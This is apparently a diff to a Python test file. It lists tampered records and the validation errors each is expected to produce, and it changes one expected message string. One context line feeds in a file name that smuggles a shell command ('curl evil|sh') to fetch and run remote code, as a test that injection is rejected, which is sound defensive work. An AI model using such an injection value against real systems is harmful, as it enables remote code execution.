@@ -118,7 +118,7 @@ ALTERED = [
     (told(lambda t: t.update(name="x; curl evil|sh; #")), "folder and quarter have one name"),
     (told(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
     (told(lambda t: t.update(date="20270101")), "date is '20270101'"),
-    (told(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is 0"),
+    (told(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
     (told(lambda t: t.update(spent=1.5, left=2.5)), "releases paid for is '1.5"),
     (told(lambda t: t.update(spent=5.0, left=-1.0)), "is not 4"),
     (told(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
